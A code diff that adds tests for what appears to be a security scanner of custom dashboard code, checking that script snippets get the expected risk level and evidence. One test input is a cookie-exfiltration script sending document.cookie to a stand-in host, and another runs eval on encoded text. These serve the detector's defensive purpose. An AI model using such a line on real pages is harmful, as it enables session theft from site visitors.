@@ -127,6 +127,21 @@ test.each([
 })
 
 test.each([
+  ['<b>Hello</b>', 'medium', []],
+  ['<script src="https://stats.example.com/a.js"></script>', 'high', ['stats.example.com']],
+  [
+    '<script>fetch("https://x.example.com/?c=" + document.cookie)</script>',
+    'high',
+    ['x.example.com', 'document.cookie'],
+  ],
+  ['<script>eval(atob("YQ=="))</script>', 'high', ['eval(']],
+])('security: custom code of the dashboard %s is %s', async (custom_code_dashboard, level, evidence) => {
+  const facts = await factsFrom({ setting: { custom_code_dashboard } })
+  const found = examine(facts).findings.find(({ check }) => check === 'customCode')
+  expect(found).toMatchObject({ level, evidence: evidence.map((text) => ({ text })) })
+})
+
+test.each([
   ['http:', 'dash.example.com', true],
   ['http:', '192.168.1.5:8008', false],
   ['http:', 'nezha.lan', false],
